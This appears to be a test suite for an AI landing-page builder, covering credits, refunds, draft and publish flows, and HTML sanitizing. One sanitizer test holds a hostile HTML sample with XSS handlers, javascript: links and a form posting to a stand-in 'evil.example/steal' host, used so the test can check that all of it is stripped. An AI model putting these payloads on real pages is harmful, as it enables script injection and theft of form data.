// The AI landing-page builder against a fake OpenAI-compatible server (spec: POST .../landing-page/generate;
// DESIGN §4 AI pages): answer formats, credits, refunds, timeouts, the conversation, sanitizing, publish checks.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import type { Browser } from "playwright-core";
import { startServer, until, type TestServer } from "./support/server";
import { startFakeModel, type FakeModel } from "./support/peers";
import { browserTest, launchBrowser } from "./support/browser";
import { sql } from "drizzle-orm";
import { openDatabase } from "../src/db/open";

let s: TestServer;
let model: FakeModel;
let noAi: TestServer;
let browser: Browser;
beforeAll(async () => {
  model = startFakeModel();
  [s, noAi, browser] = await Promise.all([
    startServer({ env: { RATE_LIMITS: "off", AI_BASE_URL: model.url, AI_API_KEY: "sk-test-secret-key", AI_MODEL: "test-model", AI_TIMEOUT_MS: "1500" } }),
    startServer({ env: { RATE_LIMITS: "off" } }),
    launchBrowser(),
  ]);
});
afterAll(async () => {
  await browser?.close();
  await Promise.all([s?.stop(), noAi?.stop()]);
  model.stop();
});

const uniq = () => Math.random().toString(36).slice(2, 8);

function goodPage(w: { key: string }, extra: Record<string, unknown> = {}) {
  return {
    title: "Fly with Rocket",
    description: "The fastest way to space.",
    style: "bold gradient",
    primary_color: "#ff5500",
    html: `<style>.hero { color: #222; padding: 40px }</style><section class="hero"><h1 style="font-size: 48px">Fly with Rocket</h1>
      <form method="post" action="/s/${w.key}"><input type="email" name="email" required placeholder="you@example.com"><button type="submit">Join</button></form></section>`,
    ...extra,
  };
}

async function waitlist(plan = "business", credits = 10, server = s) {
  const { key, username } = await server.account(plan, ["--ai-credits", String(credits)]);
  const w = (await server.request("POST", "/api/v1/waitlists", { key, body: { name: `AI ${uniq()}` } })).body.data.waitlist;
  return { key, username, w, path: `/api/v1/waitlist/${w.key}/landing-page` };
}

const credits = async (key: string) => (await s.request("GET", "/api/v1/me", { key })).body.data.ai_credits.remaining;

describe("generate", () => {
  for (const wrap of ["plain", "fenced", "prose"] as const) {
    test(`a ${wrap} JSON answer makes an AI draft, costs one credit, and is called with the configured model and key`, async () => {
      const { key, w, path } = await waitlist();
      model.next({ kind: "json", page: goodPage(w), wrap });
      const r = await s.request("POST", `${path}/generate`, { key, body: { prompt: "A page for a rocket startup" } });
      expect(r.status).toBe(200);
      expect(r.body).toEqual({
        success: true,
        data: { status: "draft", page_type: "ai", preview: { title: "Fly with Rocket", description: "The fastest way to space.", style: "bold gradient", primary_color: "#ff5500" }, credits_remaining: 9, note: expect.any(String) },
      });
      const call = model.requests[model.requests.length - 1];
      expect(call.body.model).toBe("test-model");
      expect(call.authorization).toBe("Bearer sk-test-secret-key");
      expect(call.body.messages[0].role).toBe("system");
      expect(call.body.messages[0].content).toContain(`action="/s/${w.key}"`);
      expect(call.body.messages.at(-1)).toEqual({ role: "user", content: "A page for a rocket startup" });
      const page = (await s.request("GET", path, { key })).body.data.landing_page;
      expect(page).toMatchObject({ page_type: "ai", status: "draft", headline: "Fly with Rocket", description: "The fastest way to space.", button_text: null, collect_name: null, collect_phone: null, background: null });
      expect(page.ai).toEqual({ credits_remaining: 9, last_generated_at: expect.any(Number) });
      expect(await credits(key)).toBe(9);
    });
  }

  test("a streamed (SSE) answer works too", async () => {
    const { key, w, path } = await waitlist();
    model.next({ kind: "stream", page: goodPage(w) });
    const r = await s.request("POST", `${path}/generate`, { key, body: { prompt: "stream it" } });
    expect(r.status).toBe(200);
    expect(r.body.data.preview.title).toBe("Fly with Rocket");
  });

  test("is_edit continues the stored conversation; without an AI page it is 409", async () => {
    const { key, w, path } = await waitlist();
    const noPage = await s.request("POST", `${path}/generate`, { key, body: { prompt: "edit", is_edit: true } });
    expect(noPage.status).toBe(409);
    expect(await credits(key)).toBe(10);
    model.next({ kind: "json", page: goodPage(w) }, { kind: "json", page: goodPage(w, { title: "Fly greener" }) });
    await s.request("POST", `${path}/generate`, { key, body: { prompt: "first version" } });
    const r = await s.request("POST", `${path}/generate`, { key, body: { prompt: "make it green", is_edit: true } });
    expect(r.status).toBe(200);
    expect(r.body.data.credits_remaining).toBe(8);
    const messages = model.requests[model.requests.length - 1].body.messages;
    expect(messages.map((m: any) => m.role)).toEqual(["system", "user", "assistant", "user"]);
    expect(messages[1].content).toBe("first version");
    expect(messages[3].content).toContain("make it green");
    expect((await s.request("GET", path, { key })).body.data.landing_page.headline).toBe("Fly greener");
  });

  test("PATCH of copy fields on an AI page is 409; theme and seo can be patched", async () => {
    const { key, w, path } = await waitlist();
    model.next({ kind: "json", page: goodPage(w) });
    await s.request("POST", `${path}/generate`, { key, body: { prompt: "x" } });
    for (const body of [{ headline: "New headline" }, { description: "d" }, { button_text: "b" }, { collect_name: true }, { background: { type: "color", value: "#fff" } }]) {
      expect((await s.request("PATCH", path, { key, body })).status, JSON.stringify(body)).toBe(409);
    }
    const ok = await s.request("PATCH", path, { key, body: { theme: "dark", seo: { title: "Rocket" } } });
    expect(ok.status).toBe(200);
    expect(ok.body.data.landing_page.theme).toBe("dark");
  });

  test("prompt is required and at most 2000 characters", async () => {
    const { key, path } = await waitlist();
    for (const body of [{}, { prompt: "" }, { prompt: "   " }, { prompt: "x".repeat(2001) }]) {
      const r = await s.request("POST", `${path}/generate`, { key, body });
      expect(r.status, JSON.stringify(body).slice(0, 40)).toBe(400);
      expect(r.body.message).toContain("prompt");
    }
    expect(await credits(key)).toBe(10);
  });
});

describe("credits and failures", () => {
  test("with no credits left the answer is 402 naming the balance; free plans have no AI access", async () => {
    const { key, path } = await waitlist("growth", 0);
    const r = await s.request("POST", `${path}/generate`, { key, body: { prompt: "x" } });
    expect(r.status).toBe(402);
    expect(r.body).toEqual({ statusCode: 402, error: "Payment Required", message: expect.stringContaining("balance is 0") });
    const free = await waitlist("free", 5);
    expect((await s.request("POST", `${free.path}/generate`, { key: free.key, body: { prompt: "x" } })).status).toBe(402);
    expect((await s.request("GET", "/api/v1/me", { key: free.key })).body.data.ai_credits.remaining).toBe(0);
  });

  test("two concurrent calls with one credit left: exactly one goes through, the other is 402", async () => {
    const { key, w, path } = await waitlist("business", 1);
    model.next({ kind: "json", page: goodPage(w) }, { kind: "json", page: goodPage(w) });
    const both = await Promise.all([0, 1].map(() => s.request("POST", `${path}/generate`, { key, body: { prompt: "race" } })));
    expect(both.map((r) => r.status).sort()).toEqual([200, 402]);
    expect(await credits(key)).toBe(0);
  });

  test("an upstream 500 is 502, refunds the credit, and leaks neither the upstream body nor the API key", async () => {
    const { key, path } = await waitlist();
    model.next({ kind: "status", status: 500 });
    const r = await s.request("POST", `${path}/generate`, { key, body: { prompt: "x" } });
    expect(r.status).toBe(502);
    expect(r.body).toEqual({ statusCode: 502, error: "Bad Gateway", message: expect.stringContaining("refunded") });
    expect(r.text).not.toContain("secret-internal-detail");
    expect(r.text).not.toContain("sk-test-secret-key");
    expect(await credits(key)).toBe(10);
    expect((await s.request("GET", path, { key })).status).toBe(404);
  });

  test("an answer that is not a page is 502 with the credit refunded", async () => {
    const { key, path } = await waitlist();
    model.next({ kind: "text", text: "I cannot help with that." });
    expect((await s.request("POST", `${path}/generate`, { key, body: { prompt: "x" } })).status).toBe(502);
    expect(await credits(key)).toBe(10);
  });

  test("past AI_TIMEOUT_MS the answer is 504 and the credit stays spent", async () => {
    const { key, path } = await waitlist();
    model.next({ kind: "hang" });
    const r = await s.request("POST", `${path}/generate`, { key, body: { prompt: "slow" } });
    expect(r.status).toBe(504);
    expect(r.body.error).toBe("Gateway Timeout");
    expect(await credits(key)).toBe(9);
  });

  test("without AI_BASE_URL generate answers 503 and spends nothing", async () => {
    const { key, path } = await waitlist("business", 10, noAi);
    const r = await noAi.request("POST", `${path}/generate`, { key, body: { prompt: "x" } });
    expect(r.status).toBe(503);
    expect((await noAi.request("GET", "/api/v1/me", { key })).body.data.ai_credits.remaining).toBe(10);
  });
});

describe("a published page and its draft (issue 16: generate changes only the draft)", () => {
  const hosted = async (slug: string) => {
    const res = await fetch(`${s.url}/p/${slug}`);
    return { status: res.status, html: await res.text() };
  };
  const versionTwo = (w: { key: string }) => goodPage(w, { title: "Version two", html: `<section><h1>Version two</h1><form action="/s/${w.key}"><input type="email" name="email"><button type="submit">Join v2</button></form></section>` });

  test("is_edit on a published page leaves /p/{slug} serving the old page; GET says published with unpublished changes; publish makes it live", async () => {
    const { key, w, path } = await waitlist();
    model.next({ kind: "json", page: goodPage(w) });
    await s.request("POST", `${path}/generate`, { key, body: { prompt: "v1" } });
    expect((await s.request("POST", `${path}/publish`, { key })).status).toBe(200);
    expect((await hosted(w.slug)).html).toContain("Fly with Rocket");

    model.next({ kind: "json", page: versionTwo(w) });
    const edit = await s.request("POST", `${path}/generate`, { key, body: { prompt: "v2", is_edit: true } });
    expect(edit.status).toBe(200);
    expect(edit.body.data.status).toBe("draft");
    expect(edit.body.data.note).toContain("stays online");
    let live = await hosted(w.slug);
    expect(live.status).toBe(200);
    expect(live.html).toContain("Fly with Rocket");
    expect(live.html).not.toContain("Version two");
    let page = (await s.request("GET", path, { key })).body.data.landing_page;
    expect(page).toMatchObject({ status: "published", headline: "Version two", hosted_page_url: `${s.url.replace("127.0.0.1", "localhost")}/p/${w.slug}`, has_unpublished_changes: true });

    // spec: PATCH of a published page is live at once, and the pending draft stays a draft
    expect((await s.request("PATCH", path, { key, body: { theme: "dark" } })).status).toBe(200);
    live = await hosted(w.slug);
    expect(live.html).toContain('data-theme="dark"');
    expect(live.html).toContain("Fly with Rocket");
    expect((await s.request("GET", path, { key })).body.data.landing_page.has_unpublished_changes).toBe(true);

    // in Chromium too, the visitor meets the published page
    const context = await browser.newContext();
    const tab = await context.newPage();
    await tab.goto(`${s.url}/p/${w.slug}`);
    expect(await tab.locator("h1").textContent()).toBe("Fly with Rocket");

    expect((await s.request("POST", `${path}/publish`, { key })).status).toBe(200);
    live = await hosted(w.slug);
    expect(live.html).toContain("Version two");
    expect(live.html).toContain('data-theme="dark"');
    expect(live.html).not.toContain("Fly with Rocket");
    await tab.reload();
    expect(await tab.locator("h1").textContent()).toBe("Version two");
    await context.close();
    page = (await s.request("GET", path, { key })).body.data.landing_page;
    expect(page).toMatchObject({ status: "published", headline: "Version two", has_unpublished_changes: false });
  });

  test("generate over a published standard page keeps the standard page live until publish", async () => {
    const { key, w, path } = await waitlist();
    expect((await s.request("POST", path, { key, body: { headline: "Standard page live" } })).status).toBe(201);
    expect((await s.request("POST", `${path}/publish`, { key })).status).toBe(200);
    model.next({ kind: "json", page: versionTwo(w) });
    expect((await s.request("POST", `${path}/generate`, { key, body: { prompt: "make it AI" } })).status).toBe(200);
    let live = await hosted(w.slug);
    expect(live.status).toBe(200);
    expect(live.html).toContain("Standard page live");
    expect((await s.request("GET", path, { key })).body.data.landing_page).toMatchObject({ page_type: "ai", status: "published", has_unpublished_changes: true });
    // copy fields of the (AI) draft still refuse a PATCH, as on any AI page
    expect((await s.request("PATCH", path, { key, body: { headline: "Other" } })).status).toBe(409);
    expect((await s.request("POST", `${path}/publish`, { key })).status).toBe(200);
    live = await hosted(w.slug);
    expect(live.html).toContain("Version two");
    expect(live.html).not.toContain("Standard page live");
  });

  test("a page published before snapshots existed (no published_snapshot) also stays online through is_edit", async () => {
    const { key, w, path } = await waitlist();
    model.next({ kind: "json", page: goodPage(w) }, { kind: "json", page: versionTwo(w) });
    await s.request("POST", `${path}/generate`, { key, body: { prompt: "v1" } });
    await s.request("POST", `${path}/publish`, { key });
    const db = await openDatabase({ url: s.dbUrl });
    try {
      await db.exec(sql`UPDATE landing_pages SET published_snapshot = NULL, version = version + 1 WHERE waitlist_id = (SELECT id FROM waitlists WHERE key = ${w.key})`);
    } finally {
      await db.close();
    }
    expect((await hosted(w.slug)).html).toContain("Fly with Rocket");
    expect((await s.request("POST", `${path}/generate`, { key, body: { prompt: "v2", is_edit: true } })).status).toBe(200);
    const live = await hosted(w.slug);
    expect(live.status).toBe(200);
    expect(live.html).toContain("Fly with Rocket");
    expect(live.html).not.toContain("Version two");
    expect((await s.request("GET", path, { key })).body.data.landing_page).toMatchObject({ status: "published", has_unpublished_changes: true });
  });

  test("generate on an unpublished page makes a draft (spec status table); the page stays offline", async () => {
    const { key, w, path } = await waitlist();
    model.next({ kind: "json", page: goodPage(w) }, { kind: "json", page: versionTwo(w) });
    await s.request("POST", `${path}/generate`, { key, body: { prompt: "v1" } });
    await s.request("POST", `${path}/publish`, { key });
    expect((await s.request("POST", `${path}/publish`, { key, body: { unpublish: true } })).status).toBe(200);
    await s.request("POST", `${path}/generate`, { key, body: { prompt: "v2", is_edit: true } });
    expect((await s.request("GET", path, { key })).body.data.landing_page).toMatchObject({ status: "draft", hosted_page_url: null, has_unpublished_changes: false });
    // (whatever /p/{slug} shows while no page is published, it is neither version)
    const offline = await hosted(w.slug);
    expect(offline.html).not.toContain("Fly with Rocket");
    expect(offline.html).not.toContain("Version two");
  });
});

describe("sanitizing and publishing", () => {
  test("every trick in the model's HTML is removed before storing; forms post only to this waitlist", async () => {
    const { key, w, path } = await waitlist();
    const evil = `<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/bg.png);color:#111} @font-face{font-family:x;src:url(https://evil.example/f.woff)}</style>
      <h1 onclick="alert(1)" style="color:red;background-image:url(https://evil.example/t.png)">Hi</h1>
      <script>alert(1)</script><iframe src="https://evil.example"></iframe><object data="https://evil.example/o"></object><embed src="x">
      <img src="https://evil.example/pixel.gif"><a href="javascript:alert(1)">bad</a><a href="data:text/html,hi">data</a>
      <link rel="stylesheet" href="https://evil.example/s.css"><meta http-equiv="refresh" content="0;url=https://evil.example">
      <form action="https://evil.example/steal" method="get"><input type="email" name="email" onfocus="x()"><button type="submit" formaction="https://evil.example">Go</button></form>
      <div style="width:\\75rl(https://evil.example)">escape</div><svg onload="alert(1)"><script>1</script></svg>`;
    model.next({ kind: "json", page: { ...goodPage(w), html: evil } });
    expect((await s.request("POST", `${path}/generate`, { key, body: { prompt: "x" } })).status).toBe(200);
    expect((await s.request("POST", `${path}/publish`, { key })).status).toBe(200);
    const res = await fetch(`${s.url}/p/${w.slug}`);
    const html = await res.text();
    for (const bad of ["<script>alert", "onclick", "onfocus", "onload", "<iframe", "<object", "<embed", "<img", "javascript:", "data:text", "evil.example", "@import", "url(", "<meta http-equiv", "formaction"]) {
      expect(html, bad).not.toContain(bad);
    }
    expect(html).toContain(`<form method="post" action="/s/${w.key}">`);
    expect(res.headers.get("content-security-policy")).toContain("default-src 'none'");
    expect(res.headers.get("content-security-policy")).not.toContain("unsafe-inline");
  });

  test("publish is 422 when the sanitized page has no email input or no submit button", async () => {
    const { key, w, path } = await waitlist();
    model.next({ kind: "json", page: { ...goodPage(w), html: `<h1>Nice</h1><form><input type="text" name="name"><button type="submit">Go</button></form>` } });
    await s.request("POST", `${path}/generate`, { key, body: { prompt: "x" } });
    const noEmail = await s.request("POST", `${path}/publish`, { key });
    expect(noEmail.status).toBe(422);
    expect(noEmail.body.message).toContain("email");
    model.next({ kind: "json", page: { ...goodPage(w), html: `<form><input type="email" name="email"><button type="button">Nope</button></form>` } });
    await s.request("POST", `${path}/generate`, { key, body: { prompt: "again", is_edit: true } });
    const noSubmit = await s.request("POST", `${path}/publish`, { key });
    expect(noSubmit.status).toBe(422);
    expect(noSubmit.body.message).toContain("submit");
  });

  browserTest("in Chromium: a published AI page loads with no CSP violation or third-party request, and its form signs up", async () => {
    const { key, w, path } = await waitlist();
    model.next({ kind: "json", page: goodPage(w) });
    await s.request("POST", `${path}/generate`, { key, body: { prompt: "rocket" } });
    expect((await s.request("POST", `${path}/publish`, { key })).status).toBe(200);
    const context = await browser.newContext();
    const page = await context.newPage();
    const problems: string[] = [];
    const offsite: string[] = [];
    page.on("console", (m) => m.type() === "error" && problems.push(m.text()));
    await page.route("**/*", (route) => {
      const host = new URL(route.request().url()).hostname;
      if (host === "localhost" || host === "127.0.0.1") return route.continue();
      offsite.push(route.request().url());
      return route.abort();
    });
    await page.goto(`${s.url.replace("127.0.0.1", "localhost")}/p/${w.slug}?ref=nobody`);
    // the inline style attribute became a class in the hashed stylesheet: the heading keeps its size
    expect(await page.locator("h1").evaluate((el) => (globalThis as any).getComputedStyle(el).fontSize)).toBe("48px");
    await page.locator('input[type="email"]').fill("ai-visitor@example.com");
    await page.getByRole("button", { name: "Join" }).click();
    await page.waitForURL(/\/t\//);
    expect(await page.locator("#position").textContent()).toBe("#1");
    expect(problems).toEqual([]);
    expect(offsite).toEqual([]);
    await context.close();
    const sub = await until(async () => (await s.request("GET", `/api/v1/waitlist/${w.key}/subscribers/ai-visitor%40example.com`, { key })).body?.data?.subscriber);
    expect(sub.joined_with).toBe("form");
  });
});
